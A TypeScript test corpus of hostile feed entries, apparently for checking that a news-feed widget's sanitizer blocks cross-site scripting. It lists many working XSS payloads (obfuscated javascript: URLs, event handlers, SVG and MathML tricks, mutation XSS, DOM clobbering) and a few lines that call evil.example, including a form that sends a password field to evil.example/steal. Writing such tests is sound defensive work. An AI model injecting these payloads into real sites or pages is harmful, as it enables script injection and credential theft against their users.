import type {Fields, Format} from './build.js';

// The hostile-feed corpus. Each entry is one case: the technique it tries, the format and field
// it is aimed at, and the payload. Every payload that could run calls the canary `__xss()`.
// `literal` is text that must appear as plain text in the widget (markup in a plain-text field).

export interface HostileCase {
  technique: string;
  format: Format;
  fields: Fields;
  /** Insert the payload into the XML source as is (for entity and CDATA tricks). */
  raw?: boolean;
  literal?: string;
}

const c = (technique: string, format: Format, fields: Fields, extra: Partial<HostileCase> = {}): HostileCase =>
  ({technique, format, fields, ...extra});

const IMG = '<img src=x onerror=__xss()>';

export const CASES: HostileCase[] = [
  // — script tags
  c('script tag', 'rss', {content: '<p>Hi</p><script>__xss()</script>'}),
  c('script tag', 'atom', {content: '<script>__xss()</script><p>x</p>'}),
  c('script tag', 'json', {content: '<script>__xss()</script>'}),
  c('script tag', 'wp', {content: '<script>__xss()</script>'}),
  c('script tag', 'rdf', {content: '<script>__xss()</script>'}),
  c('script tag', 'rss', {summary: '<script>__xss()</script>Summary'}),
  c('script tag', 'json', {content: '<SCRIPT SRC=data:text/javascript,__xss()></SCRIPT>'}),
  c('script tag', 'wp', {content: '<scr<script>ipt>__xss()</scr</script>ipt>'}),
  c('script tag', 'atom', {content: '<script type="module">__xss()</script>'}),

  // — event handlers on every kind of element
  c('event handler', 'rss', {content: IMG}),
  c('event handler', 'atom', {content: '<svg onload=__xss()>'}),
  c('event handler', 'json', {content: '<body onload=__xss()>text'}),
  c('event handler', 'wp', {content: '<div onmouseover=__xss()>hover</div>'}),
  c('event handler', 'rdf', {content: '<a href="https://x.org/" onclick=__xss()>link</a>'}),
  c('event handler', 'rss', {content: '<video><source onerror=__xss()></video>'}),
  c('event handler', 'atom', {content: '<details open ontoggle=__xss()><summary>s</summary></details>'}),
  c('event handler', 'json', {content: '<input autofocus onfocus=__xss()>'}),
  c('event handler', 'wp', {content: '<audio src=x onerror=__xss()></audio>'}),
  c('event handler', 'rss', {content: '<p onclick=__xss() onpointerover=__xss()>p</p>'}),
  c('event handler', 'atom', {content: '<img src=x oNeRrOr=__xss()>'}),
  c('event handler', 'json', {content: '<img/src="x"/onerror=__xss()>'}),
  c('event handler', 'wp', {summary: IMG}),
  c('event handler', 'rss', {summary: '<b onmouseover=__xss()>bold</b>'}),
  c('event handler', 'atom', {content: '<table><tr><td onmouseover=__xss()>cell</td></tr></table>'}),
  c('event handler', 'json', {content: '<blockquote onanimationstart=__xss() style="animation:x 1s">q</blockquote>'}),
  c('event handler', 'wp', {content: '<figure onfocusin=__xss() tabindex=0><img src="https://x.org/a.jpg" onload=__xss()></figure>'}),
  c('event handler', 'rdf', {summary: '<marquee onstart=__xss()>m</marquee>'}),

  // — javascript:, data: and vbscript: URLs, plain and obfuscated
  c('dangerous URL scheme', 'rss', {content: '<a href="javascript:__xss()">click</a>'}),
  c('dangerous URL scheme', 'atom', {content: '<a href="JaVaScRiPt:__xss()">click</a>'}),
  c('dangerous URL scheme', 'json', {content: '<a href="&#106;avascript:__xss()">entity</a>'}),
  c('dangerous URL scheme', 'wp', {content: '<a href="&#x6A;&#x61;vascript&#x3A;__xss()">hex entity</a>'}),
  c('dangerous URL scheme', 'rdf', {content: '<a href="jav&#x09;ascript:__xss()">tab</a>'}),
  c('dangerous URL scheme', 'rss', {content: '<a href=" \n javascript:__xss()">whitespace</a>'}),
  c('dangerous URL scheme', 'atom', {content: '<a href="java&#0;script:__xss()">null</a>'}),
  c('dangerous URL scheme', 'json', {content: '<a href="&#1;javascript:__xss()">control</a>'}),
  c('dangerous URL scheme', 'wp', {content: '<a href="data:text/html;base64,PHNjcmlwdD5fX3hzcygpPC9zY3JpcHQ+">data</a>'}),
  c('dangerous URL scheme', 'rss', {content: '<a href="vbscript:msgbox(1)">vb</a>'}),
  c('dangerous URL scheme', 'atom', {content: '<a href="VBScript:msgbox(1)">vb</a>'}),
  c('dangerous URL scheme', 'json', {content: '<img src="javascript:__xss()">'}),
  c('dangerous URL scheme', 'wp', {content: '<a href="javascript&colon;__xss()">colon entity</a>'}),
  c('dangerous URL scheme', 'rss', {link: 'javascript:__xss()'}),
  c('dangerous URL scheme', 'atom', {link: 'JAVASCRIPT:__xss()'}),
  c('dangerous URL scheme', 'json', {link: ' javascript:__xss()'}),
  c('dangerous URL scheme', 'wp', {link: 'data:text/html,<script>__xss()</script>'}),
  c('dangerous URL scheme', 'rdf', {link: 'vbscript:msgbox(1)'}),
  c('dangerous URL scheme', 'rss', {feedLink: 'javascript:__xss()'}),
  c('dangerous URL scheme', 'json', {feedLink: 'javascript:__xss()'}),
  c('dangerous URL scheme', 'rss', {guid: 'javascript:__xss()', link: ''}),
  c('dangerous URL scheme', 'wp', {content: '<a href="\u0001javascript:__xss()">ctrl</a><a href="java\tscript:__xss()">tab</a>'}),

  // — image, enclosure and featured-media URLs
  c('image URL', 'rss', {image: 'javascript:__xss()'}),
  c('image URL', 'rss', {image: 'data:image/svg+xml,<svg onload=__xss()>'}),
  c('image URL', 'atom', {image: 'javascript:__xss()'}),
  c('image URL', 'json', {image: 'data:image/png;base64,iVBORw0KGgo='}),
  c('image URL', 'wp', {image: 'javascript:__xss()'}),
  c('image URL', 'wp', {image: 'vbscript:x'}),
  c('image URL', 'json', {image: '" onerror="__xss()'}),
  c('image URL', 'rss', {image: 'https://x.org/a.jpg" onerror="__xss()'}),
  c('image URL', 'wp', {content: '<img src="https://x.org/a.jpg" srcset="javascript:__xss() 1x">'}),

  // — SVG and MathML
  c('SVG', 'rss', {content: '<svg><script>__xss()</script></svg>'}),
  c('SVG', 'atom', {content: '<svg><a xlink:href="javascript:__xss()"><text x="0" y="10">x</text></a></svg>'}),
  c('SVG', 'json', {content: '<svg><animate onbegin=__xss() attributeName=x dur=1s></svg>'}),
  c('SVG', 'wp', {content: '<svg><set attributeName="onload" to="__xss()"/></svg>'}),
  c('SVG', 'rdf', {content: '<svg><foreignObject><img src=x onerror=__xss()></foreignObject></svg>'}),
  c('SVG', 'rss', {content: '<svg><use href="data:image/svg+xml,&lt;svg id=x onload=__xss()&gt;#x"/></svg>'}),
  c('MathML', 'atom', {content: '<math><mtext><table><mglyph><style><img src=x onerror=__xss()></style></mglyph></table></mtext></math>'}),
  c('MathML', 'json', {content: '<math href="javascript:__xss()"><mi>click</mi></math>'}),
  c('MathML', 'wp', {content: '<math><maction actiontype="statusline" xlink:href="javascript:__xss()">x</maction></math>'}),

  // — mutation XSS through nesting
  c('mutation XSS', 'rss', {content: '<noscript><p title="</noscript><img src=x onerror=__xss()>"></noscript>'}),
  c('mutation XSS', 'atom', {content: '<style><img src=x onerror=__xss()></style>'}),
  c('mutation XSS', 'json', {content: '<template><img src=x onerror=__xss()></template>'}),
  c('mutation XSS', 'wp', {content: '<textarea><img src=x onerror=__xss()></textarea>'}),
  c('mutation XSS', 'rdf', {content: '<!--<img src="--><img src=x onerror=__xss()//">'}),
  c('mutation XSS', 'rss', {content: '<form><math><mtext></form><form><mglyph><style></math><img src onerror=__xss()>'}),
  c('mutation XSS', 'atom', {content: '<svg></p><style><a id="</style><img src=1 onerror=__xss()>">'}),
  c('mutation XSS', 'json', {content: '<math><mi><table><mi><style><img src=x onerror=__xss()>'}),
  c('mutation XSS', 'wp', {content: '<xmp><img src=x onerror=__xss()></xmp><noembed><img src=x onerror=__xss()></noembed>'}),
  c('comment inside CDATA', 'rss', {content: '<![CDATA[<!--]]><![CDATA[--><img src=x onerror=__xss()>]]>'}, {raw: true}),
  c('comment inside CDATA', 'rdf', {content: '<![CDATA[<p>a<!-- <img src=x onerror=__xss()> --></p>]]>'}, {raw: true}),
  c('comment inside CDATA', 'rss', {summary: '<![CDATA[<div><![CDATA[</div><img src=x onerror=__xss()>]]]]><![CDATA[>]]>'}, {raw: true}),
  c('comment inside CDATA', 'atom', {content: '&lt;svg&gt;&lt;![CDATA[&gt;&lt;img src=x onerror=__xss()&gt;]]&gt;&lt;/svg&gt;'}, {raw: true}),

  // — DOM clobbering with id and name
  c('DOM clobbering', 'rss', {content: '<img name="getElementById" src="https://x.org/a.jpg"><form id="attributes"></form>'}),
  c('DOM clobbering', 'atom', {content: '<a id="__xss" href="https://x.org/">a</a><a id="__xss" name="x">b</a>'}),
  c('DOM clobbering', 'json', {content: '<div id="location">l</div><img name="cookie" src="https://x.org/a.jpg">'}),
  c('DOM clobbering', 'wp', {content: '<a id="defaultView"></a><form name="body"><input name="innerHTML"></form>'}),
  c('DOM clobbering', 'rdf', {content: '<p id="story-0-title">clobbers our own ids</p><p name="toggle">x</p>'}),

  // — CSS in style tags or attributes
  c('CSS', 'rss', {content: '<style>*{background:url("javascript:__xss()")}</style><p>x</p>'}),
  c('CSS', 'atom', {content: '<p style="background:url(javascript:__xss())">x</p>'}),
  c('CSS', 'json', {content: '<div style="width: expression(__xss())">x</div>'}),
  c('CSS', 'wp', {content: '<link rel="stylesheet" href="https://evil.example/x.css"><style>@import "https://evil.example/x.css";</style>'}),
  c('CSS', 'rdf', {content: '<p style="position:fixed;inset:0;z-index:99999;background:red">overlay</p>'}),

  // — meta refresh, base href, forms and formaction
  c('meta refresh', 'rss', {content: '<meta http-equiv="refresh" content="0;url=javascript:__xss()">'}),
  c('meta refresh', 'json', {content: '<meta http-equiv="refresh" content="0;url=https://evil.example/">'}),
  c('base href', 'atom', {content: '<base href="javascript:__xss()//"><a href="/x">x</a>'}),
  c('base href', 'wp', {content: '<base href="https://evil.example/"><img src="a.jpg">'}),
  c('form', 'rss', {content: '<form action="javascript:__xss()"><button>go</button></form>'}),
  c('formaction', 'atom', {content: '<button formaction="javascript:__xss()">go</button>'}),
  c('form', 'json', {content: '<input type="image" src=x onerror=__xss()><isindex action="javascript:__xss()" type="image">'}),
  c('form', 'wp', {content: '<form action="https://evil.example/steal"><input type="password" name="p"></form>'}),

  // — iframe srcdoc and other embedding
  c('iframe srcdoc', 'rss', {content: '<iframe srcdoc="<script>parent.__xss()</script>"></iframe>'}),
  c('iframe srcdoc', 'atom', {content: '<iframe srcdoc="&lt;img src=x onerror=parent.__xss()&gt;"></iframe>'}),
  c('iframe srcdoc', 'json', {content: '<iframe src="javascript:parent.__xss()"></iframe>'}),
  c('iframe srcdoc', 'wp', {content: '<object data="javascript:__xss()"></object><embed src="javascript:__xss()">'}),

  // — double-escaped entities that decode into markup
  c('double-escaped entities', 'rss', {summary: '&amp;lt;img src=x onerror=__xss()&amp;gt;'}, {raw: true}),
  c('double-escaped entities', 'rss', {title: '&amp;lt;script&amp;gt;__xss()&amp;lt;/script&amp;gt;'}, {raw: true, literal: '<script>__xss()</script>'}),
  c('double-escaped entities', 'atom', {content: '&amp;lt;img src=x onerror=__xss()&amp;gt;'}, {raw: true}),
  c('double-escaped entities', 'json', {title: '&lt;img src=x onerror=__xss()&gt;'}, {literal: '<img src=x onerror=__xss()>'}),
  c('double-escaped entities', 'wp', {title: '&amp;lt;img src=x onerror=__xss()&amp;gt;', content: '&lt;script&gt;__xss()&lt;/script&gt;'}),
  c('double-escaped entities', 'rdf', {summary: '&amp;#60;script&amp;#62;__xss()&amp;#60;/script&amp;#62;'}, {raw: true}),

  // — markup in plain-text fields shows as literal text
  c('markup in a text field', 'rss', {title: 'History of the <blink> tag'}, {literal: 'History of the <blink> tag'}),
  c('markup in a text field', 'rss', {title: IMG}, {literal: IMG}),
  c('markup in a text field', 'atom', {title: '<script>__xss()</script>'}, {literal: '<script>__xss()</script>'}),
  c('markup in a text field', 'json', {title: '<svg onload=__xss()>'}, {literal: '<svg onload=__xss()>'}),
  c('markup in a text field', 'rdf', {title: '<iframe src=javascript:__xss()>'}, {literal: '<iframe src=javascript:__xss()>'}),
  c('markup in a text field', 'rss', {author: IMG}, {literal: IMG}),
  c('markup in a text field', 'json', {author: '<script>__xss()</script>'}, {literal: '<script>__xss()</script>'}),
  c('markup in a text field', 'atom', {author: '<img src=x onerror=__xss()>'}, {literal: '<img src=x onerror=__xss()>'}),
  c('markup in a text field', 'rss', {feedTitle: IMG}, {literal: IMG}),
  c('markup in a text field', 'json', {feedTitle: '<script>__xss()</script>'}, {literal: '<script>__xss()</script>'}),
  c('markup in a text field', 'rss', {category: IMG}),
  c('markup in a text field', 'wp', {category: '<script>__xss()</script>', author: IMG}),
  c('markup in a text field', 'wp', {title: 'Tom &amp; Jerry &lt;3'}, {literal: 'Tom & Jerry <3'}),
];
